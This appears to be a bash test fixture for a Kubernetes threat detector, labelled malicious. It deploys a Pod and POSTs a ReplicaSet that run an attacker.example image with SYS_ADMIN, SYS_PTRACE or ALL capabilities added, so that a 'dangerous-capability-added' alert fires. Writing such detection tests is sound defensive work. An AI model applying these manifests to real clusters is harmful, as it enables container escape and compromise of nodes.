# shellcheck shell=bash disable=SC2154
# what: pods with capabilities that reach the node.
# label: malicious
# expects: [dangerous-capability-added]
# allows: [image-from-unknown-registry, cluster-resource-created, pod-capability-beyond-baseline, api-called-by-script]
develop() {
    given <<'Y' | intruder apply -f -
apiVersion: v1
kind: Pod
metadata: {name: tracer, namespace: shop}
spec: {containers: [{name: t, image: "attacker.example/tools:1", securityContext: {capabilities: {add: [SYS_ADMIN, SYS_PTRACE]}}}]}
Y
}
hold_out() { request POST /apis/apps/v1/namespaces/shop/replicasets '{"metadata":{"name":"net"},"spec":{"selector":{"matchLabels":{"app":"n"}},"template":{"metadata":{"labels":{"app":"n"}},"spec":{"containers":[{"name":"n","image":"attacker.example/tools:1","securityContext":{"capabilities":{"add":["ALL"]}}}]}}}}'; }
